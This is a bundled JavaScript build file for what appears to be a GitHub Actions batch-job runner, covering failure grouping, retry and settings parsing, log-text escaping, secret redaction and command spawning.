    ["hex", String.raw `(?<![A-Za-z0-9])(?:0x[0-9a-fA-F]+|(?=[0-9a-fA-F]*[0-9])(?=[0-9a-fA-F]*[a-fA-F])[0-9a-fA-F]{7,})(?![A-Za-z0-9])`],
    ["ip", String.raw `(?<![0-9.])\d{1,3}(?:\.\d{1,3}){3}(?![0-9.])`],
    // Numbers that stand alone or follow punctuation ("/users/17", "item-42", "1.5s",
    // "30000ms"). Digits glued to letters are kept when short ("sha256", "v2", "utf8") and
    // folded when long ("order12345").
    ["num", String.raw `(?<![A-Za-z0-9.])\d+(?:\.\d+)*|(?<=[A-Za-z])\d{4,}`],
    // Runs of whitespace (newlines included) collapse to one space; a lone space is left
    // alone so that it costs no replacement.
    ["ws", String.raw `\s\s+|[^\S ]`],
];
// Plain (unnamed) capture groups, one per alternative: cheaper than named groups, which
// make the engine build a groups object for every match.
//
// The guard in front skips positions in the middle of a word (a letter after a letter), where
// no alternative can start: one check there instead of a dozen makes long messages ~3x faster.
const TOKEN_RE = new RegExp("(?!(?<=[A-Za-z])[A-Za-z])(?:" + TOKENS.map(([, pattern]) => `(${pattern})`).join("|") + ")", 
// Case-insensitive so "http 404", "Status: 500" and "EXIT CODE 2" are recognised too.
"gi");
const TOKEN_KINDS = TOKENS.map(([kind]) => kind);
function foldUrlSegment(segment) {
    if (segment === "")
        return segment;
    // Keep a file extension readable: "/reports/17.json" -> "/reports/<n>.json".
    const ext = /^(.+?)(\.[A-Za-z][A-Za-z0-9]{0,4})$/.exec(segment);
    const stem = ext ? ext[1] : segment;
    const suffix = ext ? ext[2] : "";
    let folded;
    if (/^\d+$/.test(stem))
        folded = "<n>";
    else if (UUID_RE.test(stem))
        folded = "<uuid>";
    else if (HEX_RE.test(stem))
        folded = "<hex>";
    else if (stem.includes("@"))
        folded = "<email>";
    // A segment with digits in it and more than a couple of characters ("item-00042",
    // "2024-05-01", "abc123") is an id; short ones ("v1", "v2") are API versions.
    else if (/[0-9]/.test(stem) && stem.length > 3)
        folded = "<id>";
    // Very long segments are tokens or encoded blobs.
    else if (stem.length > 40)
        folded = "<id>";
    return folded === undefined ? segment : folded + suffix;
}
function normaliseUrl(raw) {
    // Sentence punctuation after a URL is not part of it.
    const trail = /[.,;:!?)\]}]+$/.exec(raw);
    const url = trail ? raw.slice(0, raw.length - trail[0].length) : raw;
    const tail = trail ? trail[0] : "";
    const m = /^([A-Za-z][A-Za-z0-9+.-]*:\/\/)([^/?#]*)([^?#]*)(\?[^#]*)?(#.*)?$/.exec(url);
    if (!m)
        return raw;
    const scheme = m[1];
    // Credentials in a URL are never worth showing.
    const host = m[2].replace(/^[^@]*@/, "<…>@");
    const path = m[3].split("/").map(foldUrlSegment).join("/");
    const query = m[4]
        ? "?" +
            m[4]
                .slice(1)
                .split("&")
                .map((pair) => {
                const eq = pair.indexOf("=");
                return eq < 0 ? pair : `${pair.slice(0, eq)}=<…>`;
            })
                .join("&")
        : "";
    const fragment = m[5] ? "#<…>" : "";
    return scheme + host + path + query + fragment + tail;
}
function replaceToken(match, ...captures) {
    let i = 0;
    while (i < TOKEN_KINDS.length && captures[i] === undefined)
        i++;
    switch (TOKEN_KINDS[i]) {
        case "ws":
            return " ";
        case "ansi":
            return "";
        case "url":
            return normaliseUrl(match);
        case "email":
            return "<email>";
        case "code":
            return match.replace(/\s+/g, " ");
        case "uuid":
            return "<uuid>";
        case "time":
            return "<time>";
        case "quote":
            return '"<…>"';
        case "hex":
            return "<hex>";
        case "ip":
            return "<ip>";
        case "num":
            return "<n>";
        default:
            return match;
    }
}
function capLength(text, max) {
    if (text.length <= max)
        return text;
    let cut = max - 1;
    // Do not split a surrogate pair.
    const code = text.charCodeAt(cut - 1);
    if (code >= 0xd800 && code <= 0xdbff)
        cut -= 1;
    return text.slice(0, cut).trimEnd() + "…";
}
/**
 * The cause of a failure: the message with per-item details folded away, so that messages
 * from one cause compare equal.
 *
 * - numbers → `<n>` (HTTP status, exit codes and signals stay: `HTTP 404`, `exit code 75`)
 * - UUIDs → `<uuid>`, hex strings and `0x…` → `<hex>`, emails → `<email>`,
 *   ISO dates/timestamps → `<time>`, IPv4 addresses → `<ip>`
 * - quoted values (`'…'`, `"…"`, `` `…` ``) → `"<…>"`
 * - URLs keep scheme, host and constant path segments; numeric, UUID, hex and id-like
 *   segments fold, query values become `<…>`, fragments `#<…>`
 * - ANSI colour codes are dropped, whitespace collapses to one space, the result is trimmed
 *   and capped at `MAX_CAUSE_LENGTH` characters.
 *
 * @example normaliseCause("HTTP 404 for /users/17") === "HTTP 404 for /users/<n>"
 */
function normaliseCause(message) {
    const input = typeof message === "string" ? message.slice(0, MAX_INPUT_LENGTH) : String(message ?? "");
    const out = input.replace(TOKEN_RE, replaceToken);
    const trimmed = out.trim();
    return trimmed === "" ? "(no message)" : capLength(trimmed, MAX_CAUSE_LENGTH);
}
/** Most common kind wins; on a tie the more actionable kind is shown first. */
const KIND_ORDER = ["permanent", "timeout", "transient", "quarantined"];
/**
 * Failures grouped by `normaliseCause(error)`, largest group first; equal counts put the
 * group that failed most recently first, then order by cause so the output is stable.
 *
 * Timestamps are compared as strings: ISO 8601 UTC strings (`…Z`, as the engine writes them)
 * sort lexically in time order. Empty timestamps are ignored.
 *
 * Linear in the number of failures; identical messages are normalised once.
 */
function groupFailures(failures, opts = {}) {
    const examples = Math.max(0, Math.floor(opts.examples ?? DEFAULT_GROUP_EXAMPLES));
    const causeOf = new Map();
    const groups = new Map();
    for (const failure of failures) {
        const message = typeof failure.error === "string" ? failure.error : String(failure.error ?? "");
        // Memoised for short messages only: hashing a long stderr tail as a map key costs more
        // than normalising its first characters again.
        let cause = message.length <= MEMO_MAX_LENGTH ? causeOf.get(message) : undefined;
        if (cause === undefined) {
            cause = normaliseCause(message);
            if (message.length <= MEMO_MAX_LENGTH)
                causeOf.set(message, cause);
        }
        const first = failure.firstFailedAt || failure.lastFailedAt || "";
        const last = failure.lastFailedAt || failure.firstFailedAt || "";
        let group = groups.get(cause);
        if (group === undefined) {
            group = { cause, count: 0, kindCounts: new Map(), exampleIds: [], firstFailedAt: first, lastFailedAt: last };
            groups.set(cause, group);
        }
        group.count += 1;
        group.kindCounts.set(failure.kind, (group.kindCounts.get(failure.kind) ?? 0) + 1);
        if (group.exampleIds.length < examples)
            group.exampleIds.push(String(failure.id));
        if (first !== "" && (group.firstFailedAt === "" || first < group.firstFailedAt))
            group.firstFailedAt = first;
        if (last !== "" && last > group.lastFailedAt)
            group.lastFailedAt = last;
    }
    const result = [];
    for (const group of groups.values()) {
        result.push({
            cause: group.cause,
            count: group.count,
            kind: mostCommonKind(group.kindCounts),
            exampleIds: group.exampleIds,
            firstFailedAt: group.firstFailedAt,
            lastFailedAt: group.lastFailedAt,
        });
    }
    result.sort((a, b) => b.count - a.count ||
        (a.lastFailedAt < b.lastFailedAt ? 1 : a.lastFailedAt > b.lastFailedAt ? -1 : 0) ||
        (a.cause < b.cause ? -1 : a.cause > b.cause ? 1 : 0));
    return result;
}
function mostCommonKind(counts) {
    let best;
    let bestCount = -1;
    for (const kind of KIND_ORDER) {
        const n = counts.get(kind) ?? 0;
        if (n > bestCount) {
            best = kind;
            bestCount = n;
        }
    }
    // A kind outside the known ones (a hand-edited failures.json) still gets counted.
    for (const [kind, n] of counts) {
        if (n > bestCount) {
            best = kind;
            bestCount = n;
        }
    }
    return best ?? "permanent";
}

;// CONCATENATED MODULE: ./src/core/config/retry-settings.ts



const KINDS = ["transient", "permanent", "timeout", "quarantined"];
function parseRetrySettings(reader, retryFailures) {
    const { nameOf } = reader;
    const filterText = reader.text("retry-filter");
    const redoIdsFile = reader.text("redo-ids");
    if (filterText !== undefined && !retryFailures) {
        throw new ConfigError(`${nameOf("retry-filter")} chooses which failures to re-attempt: it needs ${nameOf("retry-failures")}`);
    }
    if (redoIdsFile !== undefined && retryFailures) {
        throw new ConfigError(`${nameOf("redo-ids")} processes done items again in a normal run: it cannot go with ${nameOf("retry-failures")}`);
    }
    return {
        ...(filterText === undefined ? {} : { retryFilter: parseRetryFilter(filterText, nameOf("retry-filter")) }),
        ...(redoIdsFile === undefined ? {} : { redoIdsFile }),
    };
}
function parseRetryFilter(text, what) {
    if (text.startsWith("cause:")) {
        const cause = text.slice("cause:".length).trim();
        if (cause === "")
            throw new ConfigError(`${what}: 'cause:' needs a text, like cause:HTTP 503`);
        return { by: "cause", text: cause };
    }
    if (text.startsWith("kind:")) {
        const kind = text.slice("kind:".length).trim();
        if (!KINDS.includes(kind))
            throw new ConfigError(`${what}: '${kind}' is not a failure kind; one of ${KINDS.join(", ")}`);
        return { by: "kind", kind: kind };
    }
    return { by: "ids", file: text };
}
/** The filter as a predicate over failures; reads the ids file (a missing one is a ConfigError). */
async function retryFilterPredicate(filter, what) {
    switch (filter.by) {
        case "cause": {
            // Case-insensitive, against the reason itself and its normalised cause (as failures.json groups it).
            const needle = filter.text.toLowerCase();
            return (f) => f.error.toLowerCase().includes(needle) || normaliseCause(f.error).toLowerCase().includes(needle);
        }
        case "kind":
            return (f) => f.kind === filter.kind;
        case "ids": {
            const ids = await readIdList(filter.file, what);
            return (f) => ids.has(f.id);
        }
    }
}
/**
 * A file of ids, one a line; blank lines and lines starting with # are skipped. A JSON
 * Lines file of objects with an "id" works too (failures exported with `failures --format`).
 */
async function readIdList(path, what) {
    let text;
    try {
        text = await (0,external_node_fs_promises_namespaceObject.readFile)(path, "utf8");
    }
    catch (error) {
        throw new ConfigError(`${what}: cannot read ${path} (${error.code ?? error.message}); give a file with one id a line`);
    }
    const ids = new Set();
    for (const raw of text.split("\n")) {
        const line = raw.replace(/\r$/, "").trim();
        if (line === "" || line.startsWith("#"))
            continue;
        ids.add(idOfLine(line));
    }
    return ids;
}
function idOfLine(line) {
    if (!line.startsWith("{"))
        return line;
    try {
        const value = JSON.parse(line);
        if (typeof value.id === "string" || typeof value.id === "number")
            return String(value.id);
    }
    catch {
        // not JSON: the line is the id
    }
    return line;
}

;// CONCATENATED MODULE: ./src/core/config/size.ts

const UNITS = { "": 1, b: 1, k: 1024, kb: 1024, kib: 1024, m: 1024 ** 2, mb: 1024 ** 2, mib: 1024 ** 2 };
/**
 * A size like `64KiB`, `512k`, `1MiB` or `65536` (bytes). K and M count in 1024s, as the
 * README's defaults are written (64 KiB): a result cap is about memory, not disk vendors.
 */
function parseSizeBytes(value, what, maxBytes) {
    const m = /^(\d+(?:\.\d+)?)\s*([a-z]*)$/i.exec(value.trim());
    const unit = m ? UNITS[m[2].toLowerCase()] : undefined;
    const bytes = m && unit !== undefined ? Math.floor(Number(m[1]) * unit) : NaN;
    if (!Number.isFinite(bytes) || bytes < 1 || bytes > maxBytes) {
        throw new ConfigError(`${what}: '${value}' is not a size from 1 byte to ${maxBytes / 1024 ** 2} MiB; write it like 64KiB, 512k or 1MiB`);
    }
    return bytes;
}

;// CONCATENATED MODULE: ./src/core/config/settings.ts






const SETTING_DEFAULTS = {
    "id-field": "id",
    concurrency: "1",
    "max-attempts": "3",
    backoff: "1s",
    "backoff-max": "1m",
    "shutdown-grace": "5s",
    "transient-exit-codes": "75",
    "max-runs-per-item": "5",
    "max-result-size": "64KiB",
};
/**
 * Reads raw settings as the user gave them: trimmed text, defaults, and numbers and
 * durations checked against their bounds, every error naming the setting as it was written.
 */
class SettingsReader {
    raw;
    nameOf;
    constructor(raw, nameOf) {
        this.raw = raw;
        this.nameOf = nameOf;
    }
    /** The trimmed text of a setting; undefined when absent, false or blank. */
    text(key) {
        const value = this.raw[key];
        if (value === undefined || value === false)
            return undefined;
        const trimmed = String(value).trim();
        return trimmed === "" ? undefined : trimmed;
    }
    /** True when the setting is the boolean true (CLI) or the text "true" (action). */
    isTrue(key) {
        return this.raw[key] === true || this.text(key) === "true";
    }
    withDefault(key) {
        return this.text(key) ?? SETTING_DEFAULTS[key];
    }
    integer(key, value, min, max) {
        if (!/^\d+$/.test(value) || Number(value) < min || Number(value) > max) {
            throw new ConfigError(`${this.nameOf(key)}: '${value}' must be a whole number from ${min} to ${max}`);
        }
        return Number(value);
    }
    duration(key, value) {
        return value === undefined ? undefined : parseDurationMs(value, this.nameOf(key));
    }
    /** A duration that must be longer than 0 when given. */
    positiveDuration(key) {
        const ms = this.duration(key, this.text(key));
        if (ms === 0)
            throw new ConfigError(`${this.nameOf(key)}: must be longer than 0`);
        return ms;
    }
}
/**
 * Validates every setting, in a fixed order (so the first problem reported is always the
 * same one), and returns the run's settings. Throws ConfigError naming what to fix.
 */
function parseRunSettings(raw, nameOf) {
    const reader = new SettingsReader(raw, nameOf);
    const retryFailures = parseRetryFailures(reader);
    const items = parseItems(reader, retryFailures);
    const itemsFormat = parseItemsFormat(reader);
    const handler = parseHandler(reader);
    const { backoffMs, backoffMaxMs } = parseBackoff(reader);
    const itemTimeoutMs = reader.positiveDuration("item-timeout");
    const timeBudgetMs = reader.positiveDuration("time-budget");
    const transientExitCodes = parseTransientExitCodes(reader);
    const maxFailureRate = parseMaxFailureRate(reader);
    const passSettings = parsePassSettings(reader, retryFailures);
    const retrySettings = parseRetrySettings(reader, retryFailures);
    return {
        items,
        itemsFormat,
        idField: reader.withDefault("id-field"),
        handler,
        concurrency: reader.integer("concurrency", reader.withDefault("concurrency"), 1, 1000),
        maxAttempts: reader.integer("max-attempts", reader.withDefault("max-attempts"), 1, 100),
        backoffMs,
        backoffMaxMs,
        itemTimeoutMs,
        timeBudgetMs,
        shutdownGraceMs: reader.duration("shutdown-grace", reader.withDefault("shutdown-grace")),
        transientExitCodes,
        retryFailures,
        maxRunsPerItem: reader.integer("max-runs-per-item", reader.withDefault("max-runs-per-item"), 1, 10_000),
        maxFailureRate,
        maxConsecutiveFailures: parseMaxConsecutiveFailures(reader),
        rateLimit: parseRateLimit(reader.text("rate-limit"), nameOf("rate-limit")),
        shard: parseShard(reader.text("shard"), nameOf("shard")),
        ...passSettings,
        ...retrySettings,
        results: parseBoolean(raw.results, nameOf("results")),
        maxResultBytes: parseSizeBytes(reader.withDefault("max-result-size"), nameOf("max-result-size"), 64 * 1024 ** 2),
        redactEnv: parseEnvNames(reader.text("redact-env"), nameOf("redact-env")),
    };
}
function parseRetryFailures(reader) {
    const text = reader.text("retry-failures");
    if (text !== undefined && !["true", "false"].includes(text)) {
        throw new ConfigError(`${reader.nameOf("retry-failures")}: '${text}' must be true or false`);
    }
    return reader.isTrue("retry-failures");
}
/** Exactly one item source, except for a retry-failures pass, which needs none. */
function parseItems(reader, retryFailures) {
    const { nameOf } = reader;
    const itemsFile = reader.text("items");
    const itemsCommand = reader.text("items-command");
    if (itemsFile && itemsCommand)
        throw new ConfigError(`give ${nameOf("items")} or ${nameOf("items-command")}, not both`);
    if (!itemsFile && !itemsCommand && !retryFailures) {
        throw new ConfigError(`${nameOf("items")} (a file) or ${nameOf("items-command")} (a command printing items) is required`);
    }
    return itemsFile ? { kind: "file", path: itemsFile } : itemsCommand ? { kind: "command", command: itemsCommand } : undefined;
}
function parseItemsFormat(reader) {
    const formatText = reader.text("items-format");
    if (formatText !== undefined && !ITEMS_FORMATS.includes(formatText)) {
        throw new ConfigError(`${reader.nameOf("items-format")}: '${formatText}' is not one of ${ITEMS_FORMATS.join(", ")}`);
    }
    return formatText;
}
/** Exactly one of run, module and worker. */
function parseHandler(reader) {
    const { nameOf } = reader;
    const handlers = ["run", "module", "worker"].filter((key) => reader.text(key) !== undefined);
    if (handlers.length === 0) {
        throw new ConfigError(`a handler is required: ${nameOf("run")} (a command per item), ${nameOf("module")} (a JavaScript file) or ${nameOf("worker")} (a long-lived process)`);
    }
    if (handlers.length > 1)
        throw new ConfigError(`give one handler, not ${handlers.map(nameOf).join(" and ")}`);
    const handlerKey = handlers[0];
    return handlerKey === "module"
        ? { kind: "module", file: reader.text("module") }
        : { kind: handlerKey === "run" ? "command" : "worker", command: reader.text(handlerKey) };
}
function parseBackoff(reader) {
    const backoffMs = reader.duration("backoff", reader.withDefault("backoff"));
    const backoffMaxMs = reader.duration("backoff-max", reader.withDefault("backoff-max"));
    if (backoffMaxMs < backoffMs) {
        throw new ConfigError(`${reader.nameOf("backoff-max")} (${reader.withDefault("backoff-max")}) must not be shorter than ${reader.nameOf("backoff")} (${reader.withDefault("backoff")})`);
    }
    return { backoffMs, backoffMaxMs };
}
/** Exit codes 1-255 separated by commas or spaces; `none` for no transient code. */
function parseTransientExitCodes(reader) {
    const transientExitCodes = new Set();
    for (const part of reader
        .withDefault("transient-exit-codes")
        .split(/[\s,]+/)
        .filter(Boolean)) {
        if (part === "none")
            continue;
        transientExitCodes.add(reader.integer("transient-exit-codes", part, 1, 255));
    }
    return transientExitCodes;
}
/** A share above 0 and at most 1, as a fraction (0.2) or a percentage (20%). */
function parseMaxFailureRate(reader) {
    const rateText = reader.text("max-failure-rate");
    if (rateText === undefined)
        return undefined;
    const maxFailureRate = Number(rateText.endsWith("%") ? Number(rateText.slice(0, -1)) / 100 : rateText);
    if (!Number.isFinite(maxFailureRate) || maxFailureRate <= 0 || maxFailureRate > 1 || /^\s*$/.test(rateText)) {
        throw new ConfigError(`${reader.nameOf("max-failure-rate")}: '${rateText}' must be a share above 0 and at most 1, like 0.2 (or 20%)`);
    }
    return maxFailureRate;
}
/** Undefined when not given: the engine's default depends on the pass (see EarlyStop). */
function parseMaxConsecutiveFailures(reader) {
    const value = reader.text("max-consecutive-failures");
    return value === undefined ? undefined : reader.integer("max-consecutive-failures", value, 0, 1_000_000);
}
/** `20/s`, `600/m`, `1000/h`: at most that many item starts per unit. */
function parseRateLimit(value, what) {
    if (value === undefined)
        return undefined;
    const m = /^(\d+(?:\.\d+)?)\s*\/\s*(ms|s|sec|second|m|min|minute|h|hour)$/i.exec(value);
    const units = {
        ms: 1,
        s: 1000,
        sec: 1000,
        second: 1000,
        m: 60_000,
        min: 60_000,
        minute: 60_000,
        h: 3_600_000,
        hour: 3_600_000,
    };
    if (!m || Number(m[1]) <= 0)
        throw new ConfigError(`${what}: '${value}' is not a rate; write it like 20/s, 600/m or 1000/h`);
    return { count: Number(m[1]), perMs: units[m[2].toLowerCase()] };
}
/**
 * `i/n` with 1 <= i <= n: this job's shard of n. `1/1` is no shard: one shard is the same
 * batch as no shard (the README's sharding section), so the reusable workflow's `shards: 1` (which passes `1/1`)
 * and the action called without `shard` read and write the same state.
 */
function parseShard(value, what) {
    if (value === undefined)
        return undefined;
    const m = /^(\d+)\s*\/\s*(\d+)$/.exec(value);
    if (!m || Number(m[2]) < 1 || Number(m[1]) < 1 || Number(m[1]) > Number(m[2]) || Number(m[2]) > 256) {
        throw new ConfigError(`${what}: '${value}' must be i/n with 1 <= i <= n <= 256, like 3/8 (shards count from 1)`);
    }
    if (Number(m[2]) === 1)
        return undefined;
    return { index: Number(m[1]), count: Number(m[2]) };
}
/** A switch: true from the command line, or the strings true/false from a workflow. */
function parseBoolean(value, what) {
    if (value === undefined || value === false || value === true)
        return value === true;
    const text = value.trim();
    if (text === "" || text === "false")
        return false;
    if (text === "true")
        return true;
    throw new ConfigError(`${what}: '${text}' must be true or false`);
}
/** Names of environment variables, separated by commas, spaces or newlines. */
function parseEnvNames(text, what) {
    if (text === undefined)
        return [];
    const names = text.split(/[\s,]+/).filter(Boolean);
    const bad = names.find((name) => !/^[A-Za-z_][A-Za-z0-9_]*$/.test(name));
    if (bad !== undefined)
        throw new ConfigError(`${what}: '${bad}' is not the name of an environment variable (give names like API_TOKEN, not values)`);
    return names;
}

;// CONCATENATED MODULE: ./src/core/platform/log-text.ts
/**
 * Item-derived text (ids, error messages, handler output) on its way into a log line.
 * Such text must not start a line of its own: in GitHub Actions a line of the step's
 * output that starts with `::` is a workflow command (`::add-mask::`, `::error::`,
 * `::stop-commands::`), and on a terminal an ESC sequence redraws the screen.
 */
/** Longest id written into a log line; the whole id is in failures.json and the reports. */
const MAX_LOG_ID_CHARS = 80;
/**
 * Characters that end a line somewhere (LF, CR, VT, FF, NEL, U+2028/9), other C0/C1
 * controls (ESC starts terminal sequences), DEL, and lone surrogates (no character at all).
 */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;
/** Writes control characters as visible escapes (`\n`, `\r`, `\t`, `\u001b`), so the text stays on one line. */
function escapeControls(text) {
    return text.replace(UNSAFE, (c) => SHORT_ESCAPES[c] ?? `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
}
const SHORT_ESCAPES = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
/** Cuts text to `maxChars` (not inside a surrogate pair), marking the cut with `…`. */
function shorten(text, maxChars) {
    if (text.length <= maxChars)
        return text;
    let end = Math.max(0, maxChars - 1);
    const last = text.charCodeAt(end - 1);
    if (last >= 0xd800 && last <= 0xdbff)
        end--;
    return text.slice(0, end) + "…";
}
/** An id as it appears in a log line: one line, control characters escaped, at most MAX_LOG_ID_CHARS. */
function logId(id) {
    return shorten(escapeControls(id), MAX_LOG_ID_CHARS);
}

// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __nccwpck_require__(421);
;// CONCATENATED MODULE: ./src/core/platform/system.ts

/** The system clock's time as an ISO 8601 string (what journal records and files store). */
function isoNow(system) {
    return new Date(system.nowMs()).toISOString();
}
/** Resolves after ms, or early (resolving, not rejecting) when signal aborts. */
function sleepMs(system, ms, signal) {
    if (signal?.aborted || ms <= 0)
        return Promise.resolve();
    return new Promise((resolve) => {
        const onAbort = () => {
            cancel();
            resolve();
        };
        const cancel = system.setTimer(() => {
            signal?.removeEventListener("abort", onAbort);
            resolve();
        }, ms);
        signal?.addEventListener("abort", onAbort, { once: true });
    });
}
const realSystem = {
    nowMs: () => Date.now(),
    setTimer(fn, ms) {
        const t = setTimeout(fn, ms);
        return () => clearTimeout(t);
    },
    random: Math.random,
    spawn: external_node_child_process_.spawn,
};

;// CONCATENATED MODULE: ./src/core/platform/secrets.ts
/**
 * Secrets that must not reach what the engine stores (failures.json, the snapshot, the
 * reports, the artifact, the cache) nor the handlers that do not need them.
 */
/** Variables whose values are always redacted: the job's tokens. */
const ALWAYS_REDACTED_ENV = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"];
/**
 * Shorter values are not redacted: a secret of 1–3 characters would turn every such
 * substring of every message into `***` and hide nothing worth hiding.
 */
const MIN_SECRET_CHARS = 4;
/** What a redacted secret is replaced with (as the runner masks secrets in the log). */
const REDACTED = "***";
/**
 * The values to redact: those of ALWAYS_REDACTED_ENV and of the named variables, plus
 * `extra` (the action's github-token input), each also line by line (a multi-line secret,
 * like a key, may be printed in parts).
 */
function secretValues(env, names, extra = []) {
    const values = new Set();
    const add = (value) => {
        if (value === undefined)
            return;
        for (const part of [value, ...value.split(/\r?\n/)]) {
            const trimmed = part.trim();
            if (trimmed.length >= MIN_SECRET_CHARS)
                values.add(trimmed);
        }
    };
    for (const name of [...ALWAYS_REDACTED_ENV, ...names])
        add(env[name]);
    for (const value of extra)
        add(value);
    return [...values];
}
/** Replaces every occurrence of the values with `***`; longer values first, so a value containing another goes whole. */
function makeRedactor(values) {
    if (values.length === 0)
        return (text) => text;
    const sorted = [...values].sort((a, b) => b.length - a.length);
    const pattern = new RegExp(sorted.map((v) => v.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")).join("|"), "g");
    return (text) => (typeof text === "string" ? text.replace(pattern, REDACTED) : text);
}
/**
 * The runner's own plumbing, which no handler needs: the token and URLs of the job's
 * cache and results services, and the action's inputs (`INPUT_GITHUB-TOKEN` among them).
 * A handler that needs a token gets one the workflow passes it by name.
 */
const RUNNER_INTERNAL_ENV = new Set([
    "ACTIONS_RUNTIME_TOKEN",
    "ACTIONS_RUNTIME_URL",
    "ACTIONS_RESULTS_URL",
    "ACTIONS_CACHE_URL",
    "ACTIONS_CACHE_SERVICE_V2",
]);
/** The environment handlers (and the items command) run with: this process's, minus the runner's plumbing. */
function handlerEnvironment(env) {
    const out = {};
    for (const [key, value] of Object.entries(env)) {
        if (RUNNER_INTERNAL_ENV.has(key) || key.startsWith("INPUT_"))
            continue;
        out[key] = value;
    }
    return out;
}

// EXTERNAL MODULE: external "node:events"
var external_node_events_ = __nccwpck_require__(474);
;// CONCATENATED MODULE: ./src/core/handlers/command/output-tail.ts
/** Keeps the last maxChars of a stream's text: enough for a failure reason, bounded in memory. */
class OutputTail {
    maxChars;
    text = "";
    constructor(maxChars = 4000) {
        this.maxChars = maxChars;
    }
    push(chunk) {
        this.text += typeof chunk === "string" ? chunk : chunk.toString("utf8");
        if (this.text.length > this.maxChars * 2)
            this.text = this.text.slice(-this.maxChars);
    }
    /** The tail, trimmed, limited to maxChars (and to the last few lines, for readability). */
    value(maxLines = 20) {
        const lines = this.text.slice(-this.maxChars).trimEnd().split("\n");
        return lines.slice(-maxLines).join("\n").trim();
    }
}
/** Keeps the first maxBytes of a stream (a command's result), and whether more came. */
class OutputHead {
    maxBytes;
    chunks = [];
    bytes = 0;
    overflow = false;
    constructor(maxBytes) {
        this.maxBytes = maxBytes;
    }
    push(chunk) {
        if (this.overflow)
            return;
        const room = this.maxBytes - this.bytes;
        if (chunk.length > room) {
            this.overflow = true;
            if (room > 0)
                this.chunks.push(Buffer.from(chunk.subarray(0, room)));
            this.bytes = this.maxBytes;
            return;
        }
        this.chunks.push(chunk);
        this.bytes += chunk.length;
    }
    value() {
        return Buffer.concat(this.chunks);
    }
}

;// CONCATENATED MODULE: ./src/core/handlers/process-group.ts
/**
 * Sends a signal to a whole process group (a handler and what it started). Returns false
 * when the group is already gone, which is never an error here.
 */
function killGroup(pid, signal) {
    try {
        process.kill(-pid, signal);
        return true;
    }
    catch {
        return false;
    }
}

;// CONCATENATED MODULE: ./src/core/input/capture-command.ts





/**
 * Runs the items command once and saves its standard output to a file, so the items can
 * be read twice (checked first, then processed) without running the command twice.
 * The command runs in its own process group, so a stop reaches what it started too
 * (a `curl | jq` pipeline), and the run ends with 130/143 rather than leaving it behind.
 */
async function captureCommandOutput(command, outPath, options) {
    const out = (0,external_node_fs_.createWriteStream)(outPath);
    let stoppedBy;
    let pid;
    // Listen before the command starts: under load it may run (and be seen running) before spawn returns.
    const unsubscribe = options.stops?.subscribe((signal) => {
        stoppedBy ??= signal;
        if (pid !== undefined)
            killGroup(pid, "SIGTERM");
    });
    try {
        const child = options.system.spawn("/bin/sh", ["-c", command], {
            cwd: options.cwd,
            env: options.env,
            stdio: ["ignore", "pipe", "pipe"],
            detached: true,
        });
        pid = child.pid;
        if (stoppedBy && pid !== undefined)
            killGroup(pid, "SIGTERM");
        const stderr = new OutputTail();
        child.stderr?.on("data", (c) => stderr.push(c));
        child.stdout?.pipe(out);
        const [code, signal] = (await (0,external_node_events_.once)(child, "close"));
        if (!out.writableFinished)
            await (0,external_node_events_.once)(out, "finish");
        if (stoppedBy)
            throw new StoppedBeforeStartError(stoppedBy);
        if (code !== 0) {
            const tail = stderr.value();
            throw new ConfigError(`${options.what}: the command exited with ${code ?? signal}${tail ? `:\n${tail}` : ""}`);
        }
    }
    finally {
        unsubscribe?.();
    }
}

;// CONCATENATED MODULE: ./src/core/handlers/handler.ts
const OK = Object.freeze({ ok: true });

;// CONCATENATED MODULE: ./src/core/handlers/command/node-launcher.ts

/** Runs `/bin/sh -c command` with Node's child_process.spawn: the path that needs nothing else. */
function createNodeLauncher(options) {
    return {
        launch(request, onStarted) {
            const env = { ...options.env, ...request.env };
            for (const [key, value] of Object.entries(request.env))
                if (value === undefined)
                    delete env[key];
            return new Promise((resolve) => {
                let child;
                try {
                    child = options.system.spawn("/bin/sh", ["-c", options.command], {
                        cwd: options.cwd,
                        env,
                        detached: true,
                        stdio: ["pipe", "pipe", "pipe"],
                    });
                }
                catch (error) {
                    resolve({ kind: "not-started", message: error.message });
                    return;
                }
                if (child.pid !== undefined)
                    onStarted(child.pid);
                const stderr = new OutputTail();
                const stdout = new OutputTail();
                const head = request.keepStdoutBytes === undefined ? undefined : new OutputHead(request.keepStdoutBytes);
                let drainTimer;
                const finish = (outcome) => {
                    drainTimer?.();
                    resolve(outcome);
                };
                child.stdout?.on("data", (c) => {
                    stdout.push(c);
                    head?.push(c);
                });
                child.stderr?.on("data", (c) => stderr.push(c));
                // A command that does not read its input closes the pipe early: that is not an error.
                child.stdin?.on("error", () => { });
                child.stdin?.end(request.stdin);
                child.on("error", (error) => finish({ kind: "not-started", message: error.message }));
                child.on("close", (code, signal) => finish({
                    kind: "exited",
                    code,
                    signal,
                    output: stderr.value() || stdout.value(),
                    ...(head && code === 0 ? { stdout: head.value(), stdoutOverflow: head.overflow } : {}),
                }));
                // 'close' waits for stdio to close: a grandchild that keeps our pipes open past the
                // command's own exit would hold the item forever, so close them shortly after exit.
                child.on("exit", () => {
                    drainTimer = options.system.setTimer(() => {
                        child.stdout?.destroy();
                        child.stderr?.destroy();
                    }, 1000);
                });
            });
        },
        close() { },
    };
}

;// CONCATENATED MODULE: ./src/core/handlers/command/spawn-server-source.ts
// auto-generated from spawn-server.py by scripts/embed-sources.mjs, do not edit.
/**
 * The spawn server's source: a Python 3.8+ program (stdlib only) that starts item commands
 * with posix_spawn for the Node process that started it. Forking Node itself (a ~100 MB
 * process) is what caps child_process.spawn at ~950 items/s on 2 cores; a small Python
 * process spawns as fast as xargs. spawn-server.ts starts it with `python3 -I -S -c` and
 * describes the protocol; it is a string here so the ncc bundle carries it.
 */
const SPAWN_SERVER_SOURCE = [
    "# The spawn server: started by spawn-server.ts as `python3 -I -S -c <this file's text>`.",
    "# scripts/embed-sources.mjs copies this file into spawn-server-source.ts (run by npm run build,",
